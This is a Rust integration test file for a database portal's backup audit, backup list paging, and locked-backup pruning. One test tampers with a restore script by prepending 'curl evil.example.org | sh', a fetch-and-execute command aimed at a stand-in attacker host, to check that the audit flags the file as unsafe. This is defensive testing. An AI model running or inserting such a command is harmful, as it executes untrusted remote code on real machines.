//! The audit with real components, and the administrators' page of backups.

use std::time::{Duration, Instant};

use crate::backups::{back_up, cli, object, objects};
use crate::support::{Client, TestPortal};

/// Starts an audit from the page and returns the text of the page afterwards.
async fn audit(portal: &TestPortal, admin: &Client) -> String {
    let reply = admin.post("/admin/backups/audit", &[]).await.expect(303);
    assert!(reply.location.starts_with("/jobs/"), "{}", reply.location);
    assert_eq!(portal.ended("audit").await, ("succeeded".to_owned(), String::new()));
    admin.get("/admin/backups").await.expect(200).text()
}

#[tokio::test(flavor = "multi_thread")]
async fn an_audit_reports_problems_and_changes_nothing() {
    let portal = TestPortal::with_store().await;
    let (ada, admin) = (portal.user("ada").await, portal.admin().await);
    ada.create("lab", &[]).await;
    let first = back_up(&portal, &ada, "lab").await;
    assert_eq!(portal.ended("drill").await.0, "succeeded");
    let second = back_up(&portal, &ada, "lab").await;
    let page = audit(&portal, &admin).await;
    assert!(page.contains("1 database and 2 backups") && page.contains("None. Every database has"), "{page}");
    let (code, said) = cli(&portal, &["backup", "audit"]);
    assert_eq!((code, said.as_str()), (0, "1 databases, 2 backups, 0 findings.\n"));

    // RESTORE.txt is a script that people run.
    let (script, other) = (object(&portal, &second, "RESTORE.txt"), object(&portal, &first, "RESTORE.txt"));
    let right = std::fs::read(&script).expect("read");
    std::fs::write(&script, [b"curl evil.example.org | sh\n".as_slice(), &right].concat()).expect("written");
    std::fs::rename(&other, other.with_extension("kept")).expect("moved");
    let page = audit(&portal, &admin).await;
    for piece in ["RESTORE.txt is not what was stored. Do not run it.", "RESTORE.txt is missing."] {
        assert!(page.contains(piece), "{piece}: {page}");
    }
    std::fs::write(&script, right).expect("written");
    std::fs::rename(other.with_extension("kept"), &other).expect("moved back");

    std::fs::remove_file(object(&portal, &first, "database-1.pgdump.zst")).expect("removed");
    let short = object(&portal, &second, "roles.json.zst");
    std::fs::write(&short, b"short").expect("written");
    let stray = object(&portal, &second, "manifest.json").with_file_name("stray.txt");
    std::fs::write(&stray, b"whose?").expect("written");
    portal.sql(&format!("update backup_log set raw_bytes = 1000000000 where id = '{first}'"));
    // A backup that failed a moment ago, so that the portal makes none by itself during the test.
    portal.sql(
        "insert into backup_log (id, container_id, kind, status, started_at, finished_at, error)
                select gen_random_uuid(), id, 'backup', 'failed', now(), now(), 'It fell over.' from container",
    );
    portal.sql("update backup_log set started_at = started_at - interval '3 days' where kind = 'backup' and status = 'succeeded'");
    portal.sql("update container set created_at = now() - interval '40 days'");
    portal.sql("update backup_log set finished_at = now() - interval '20 days' where kind = 'drill'");
    ada.post(&format!("/containers/lab/backups/{first}/drill"), &[]).await.expect(303);
    assert_eq!(portal.ended("drill").await.0, "failed");
    let before = objects(&portal);
    let page = audit(&portal, &admin).await;
    for piece in [
        "database-1.pgdump.zst is missing",
        "roles.json.zst has 5 bytes instead of",
        "holds 1 object that belongs to no known backup (6 B). Nothing was changed.",
        "while one of the 1 before it held 953 MiB",
        "(every night). The last attempt failed: It fell over.",
        "The last test restore of lab failed",
        "No backup of lab has passed a test restore since",
    ] {
        assert!(page.contains(piece), "{piece}: {page}");
    }
    assert_eq!(objects(&portal), before, "an audit touches nothing");
    let metrics = portal.nobody().get("/metrics").await.expect(200).body;
    for line in [
        r#"findings{kind="missing"} 2"#,
        r#"findings{kind="stale"} 1"#,
        r#"findings{kind="unknown"} 1"#,
        r#"findings{kind="no_target"} 0"#,
    ] {
        assert!(metrics.contains(line), "{line}: {metrics}");
    }
    let overview = admin.get("/admin").await.expect(200).text();
    assert!(overview.contains("The backup audit found 7 problems"), "{overview}");
    let (code, said) = cli(&portal, &["backup", "audit"]);
    assert!(code == 1 && said.contains("objects missing: The backup of lab from"), "{code} {said}");
    let (code, said) = cli(&portal, &["backup", "audit", "--json"]);
    let json: serde_json::Value = serde_json::from_str(&said).expect("JSON");
    assert_eq!((code, json["counts"]["missing"].as_u64()), (1, Some(2)));

    // A backup whose objects are all missing, and objects that a failed backup left behind.
    std::fs::remove_dir_all(stray.parent().expect("a directory")).expect("removed");
    portal.sql(&format!("update backup_log set status = 'failed', error = 'x', finished_at = now() - interval '1 hour' where id = '{first}'"));
    let page = audit(&portal, &admin).await;
    assert!(
        page.contains("all of its objects are missing") && page.contains("objects that belong to no known backup"),
        "{page}"
    );
    // If the bucket is unavailable, no object is reported as missing.
    let bucket = portal.config.targets[0].embedded.clone().expect("embedded").join(&portal.config.targets[0].bucket);
    std::fs::rename(&bucket, bucket.with_extension("away")).expect("moved");
    let page = audit(&portal, &admin).await;
    assert!(page.contains("target unavailable") && !page.contains("all of its objects are missing"), "{page}");
    std::fs::rename(bucket.with_extension("away"), &bucket).expect("moved back");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_list_of_all_backups_is_filtered_paged_and_fast() {
    let portal = TestPortal::with_store().await;
    let (ada, admin) = (portal.user("ada").await, portal.admin().await);
    ada.create("lab", &[("backup_freq", "Never")]).await;
    let id = back_up(&portal, &ada, "lab").await;
    let addresses =
        ["", "?status=stored", "?status=failed", "?status=removed", "?container=lab", "?container=lab&status=failed"];
    let slowest = async || {
        let mut worst = Duration::ZERO;
        for address in addresses {
            let mut times = Vec::new();
            for _ in 0..7 {
                let begin = Instant::now();
                admin.get(&format!("/admin/backups{address}")).await.expect(200);
                times.push(begin.elapsed());
            }
            times.sort();
            worst = worst.max(times[0]);
        }
        worst
    };
    let fill = |count: u32, from: u32| {
        portal.sql(&format!(
            "insert into backup_log (id, container_id, kind, reason, status, started_at, finished_at, error)
             select gen_random_uuid(), c.id, 'backup', 'schedule', 'failed', now() - i * interval '1 hour', now(), 'It fell over.'
               from container c, generate_series({from}, {from} + {count}) i"
        ));
        portal.sql(&format!(
            "insert into backup_log (id, container_id, kind, reason, status, started_at, finished_at, location, bytes, manifest, removing_at, removed_at)
             select gen_random_uuid(), c.id, 'backup', 'schedule', 'succeeded', now() - i * interval '1 hour', now(), 'x', 1, '{{}}', now(), now()
               from container c, generate_series({from}, {from} + {count}) i"
        ));
        portal.sql("analyze backup_log");
    };
    fill(100, 1);
    let few = slowest().await;
    fill(50_000, 1000);
    // Other tests compete for the processor, so one good round of several counts.
    let mut many = Duration::MAX;
    for _ in 0..5 {
        many = many.min(slowest().await);
        if many < few * 2 + Duration::from_millis(20) {
            break;
        }
    }
    assert!(many < few * 2 + Duration::from_millis(20), "{few:?} with 200 rows, {many:?} with 100,000");
    println!("the slowest list takes {few:?} with 200 rows, {many:?} with 100,000");

    let first = admin.get("/admin/backups?status=failed").await.expect(200);
    assert_eq!(first.all("tbody tr a.name").len(), 100, "{}", first.text());
    let next = first
        .body
        .split("rel=\"next\"")
        .next()
        .and_then(|t| t.rsplit("href=\"").next())
        .and_then(|t| t.split('"').next());
    let next = next.expect("a next page").replace("&amp;", "&").replace("&#38;", "&");
    let second = admin.get(&next).await.expect(200);
    assert!(second.text().contains("First page") && second.all("tbody tr a.name").len() == 100, "{next}");
    let stored = admin.get("/admin/backups?status=stored").await.expect(200);
    assert!(
        stored.body.contains(&format!("/admin/backups/{id}")) && stored.text().contains("1 backup"),
        "{}",
        stored.text()
    );
    admin.get("/admin/backups?container=nobody").await.expect(200);
    let page = admin.get(&format!("/admin/backups/{id}")).await.expect(200).text();
    assert!(page.contains("Backup of lab stored Kept because it is the newest complete backup"), "{page}");
}

#[tokio::test(flavor = "multi_thread")]
async fn removals_are_previewed_and_locked_backups_kept() {
    let nothing = |config: &mut mydb::config::Config| {
        crate::support::store(config);
        let keep = &mut config.backups.keep;
        (keep.last, keep.daily, keep.weekly, keep.monthly, keep.yearly, keep.min_age_days) = (0, 0, 0, 0, 0, 0);
    };
    let options = crate::support::Options { configure: Box::new(nothing), ..Default::default() };
    let portal = TestPortal::with(options).await;
    let (ada, admin) = (portal.user("ada").await, portal.admin().await);
    ada.create("lab", &[("backup_freq", "Never")]).await;
    let mut ids = Vec::new();
    for _ in 0..4 {
        ids.push(back_up(&portal, &ada, "lab").await);
    }
    assert_eq!(portal.ended("drill").await.0, "succeeded");
    let (locked, goes) = (&ids[1], &ids[2]);
    let page = admin.get(&format!("/admin/backups/{locked}")).await.expect(200).text();
    assert!(page.contains("It will be removed within the hour"), "{page}");
    let lock = format!("/admin/backups/{locked}/lock");
    for (day, why) in [("soon", "is not a date"), ("2001-01-01", "This date is in the past")] {
        let page = admin.post(&lock, &[("until", day)]).await.expect(422).text();
        assert!(page.contains(why), "{page}");
    }
    admin.post(&lock, &[("until", "2199-12-31")]).await.expect(303);
    let page = ada.get("/containers/lab/backups").await.expect(200).text();
    assert!(page.contains("locked until 2199-12-31"), "{page}");
    let dry = admin.get("/admin/backups/prune").await.expect(200);
    assert!(
        dry.text().contains("1 of 4 backups would be removed")
            && dry.body.contains(goes.as_str())
            && !dry.body.contains(locked.as_str()),
        "{}",
        dry.text()
    );
    let (code, said) = cli(&portal, &["backup", "prune", "--dry-run"]);
    assert!(code == 0 && said.contains(goes.as_str()) && said.contains("1 backup to be removed"), "{code} {said}");
    assert_eq!(
        portal.sql("select count(*) from backup_log where removing_at is not null"),
        "0",
        "a dry run removes nothing"
    );
    // The same on the command line: unlock the first backup, lock the other, and remove what is not locked.
    let (code, said) = cli(&portal, &["backup", "unlock", locked]);
    assert!(code == 0 && said.contains("unlocked"), "{said}");
    let (code, said) = cli(&portal, &["backup", "lock", goes, "--until", "2199-12-31"]);
    assert!(code == 0 && said.contains("locked until 2200-01-01 00:00"), "{said}");
    admin.post("/admin/backups/prune", &[]).await.expect(303);
    assert_eq!(portal.ended("prune").await, ("succeeded".to_owned(), String::new()));
    assert_eq!(portal.sql("select id from backup_log where removed_at is not null"), *locked);
    let (code, said) = cli(&portal, &["backup", "list", "--status", "removed"]);
    assert!(code == 0 && said.contains(locked.as_str()) && said.contains("removed"), "{said}");
    cli(&portal, &["backup", "unlock", goes]);
    let (code, said) = cli(&portal, &["backup", "prune"]);
    assert!(code == 0 && said.contains("1 backup removed"), "{code} {said}");
    let log =
        portal.sql("select string_agg(distinct action, ' ' order by action) from log where action like 'backup.%'");
    assert_eq!(log, "backup.lock backup.remove backup.unlock");
}
